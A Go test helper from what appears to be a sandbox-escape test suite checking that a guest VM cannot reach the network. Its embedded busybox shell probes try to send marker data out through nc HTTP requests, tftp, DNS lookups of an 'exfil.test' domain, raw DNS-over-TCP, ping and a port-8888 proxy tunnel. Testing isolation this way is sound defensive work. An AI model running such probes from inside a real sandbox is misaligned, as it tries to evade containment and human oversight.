// SPDX-License-Identifier: Apache-2.0

package escape

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// probes are shell functions that need only busybox. They print the response. Each
// sends a marker, by which an observer recognises the attack. busybox's nc has no
// UDP, so its TFTP client sends the datagrams. When nc's input ends, nc closes one
// direction of the connection, and the bundle then assumes that the guest left, so
// proxy and tunnel keep the input open. A marker is 15 characters long, because
// dnstcp's query contains that length.
const probes = `
cd /tmp 2>/dev/null || cd /
http() { printf 'GET /%s HTTP/1.0\r\n\r\n' "$3" | timeout $T nc "$1" "$2"; }
udp() { timeout $T tftp -g -l /dev/null -r "$3" "$1" "$2"; }
dns() { timeout $T nslookup "$2.exfil.test" $1; }
dnstcp() { printf '\000\054\000\001\001\000\000\001\000\000\000\000\000\000\017%s\005exfil\004test\000\000\001\000\001' "$2" | timeout $T nc "$1" 53; }
echo_() { ping -c 1 -W $T "$1"; }
scoped() { probe=$1 addr=$2; shift 2; for i in $(ip -o link | sed 's/^[0-9]*: //; s/[@:].*//'); do $probe "$addr%$i" "$@" & done; wait; }
proxy() { { printf %b "$1"; sleep $T; } | timeout $T nc "$BUNDLE" 8888; }
tunnel() { { printf %b "$1"; sleep $S; printf %b "$2"; sleep $T; } | timeout $T nc "$BUNDLE" 8888; }
`

// attempt is one attack of a batch.
type attempt struct {
	name   string
	marker string
	// sh is a call of one of the probes.
	sh string
	// answered is text that the guest sees only if it got through, or "".
	answered string
}

// outcome is how an attempt ended.
type outcome struct {
	reached bool
	// output is what the guest printed. evidence describes how it got through.
	output, evidence string
}

// script returns a shell script that runs all attempts in parallel, so that their
// timeouts overlap.
func script(attempts []attempt, timeout time.Duration, bundle string) string {
	var s strings.Builder
	seconds := int(timeout.Seconds())
	fmt.Fprintf(&s, "T=%d S=%d BUNDLE=%s\n%s", seconds, max(1, seconds/3), bundle, probes)
	for i, a := range attempts {
		fmt.Fprintf(&s, "( %s ) </dev/null >out.%d 2>&1 &\n", a.sh, i)
	}
	fmt.Fprintf(&s, "wait\ni=0\nwhile [ $i -lt %d ]; do printf '\\n@@ %%s\\n' $i; head -c 400 out.$i; rm -f out.$i; i=$((i + 1)); done\n", len(attempts))
	return s.String()
}

// parse splits a script's output by attempt.
func parse(t *testing.T, output string, n int) []string {
	t.Helper()
	parts := strings.Split(output, "\n@@ ")
	if len(parts) != n+1 {
		t.Fatalf("a batch of %d attacks printed %d outputs:\n%s", n, len(parts)-1, output)
	}
	outputs := make([]string, n)
	for i, p := range parts[1:] {
		number, text, _ := strings.Cut(p, "\n")
		if number != fmt.Sprint(i) {
			t.Fatalf("output %d of a batch has number %q:\n%s", i, number, output)
		}
		outputs[i] = text
	}
	return outputs
}

// judge decides, from what observers saw and from the outputs, how each attempt
// ended.
func judge(attempts []attempt, outputs []string, seen observations) []outcome {
	out := make([]outcome, len(attempts))
	for i, a := range attempts {
		out[i].output = outputs[i]
		if o, ok := seen.find(a.marker); ok {
			out[i].reached, out[i].evidence = true, o.String()
		} else if a.answered != "" && strings.Contains(outputs[i], a.answered) {
			out[i].reached, out[i].evidence = true, fmt.Sprintf("the guest printed %q", outputs[i])
		}
	}
	return out
}
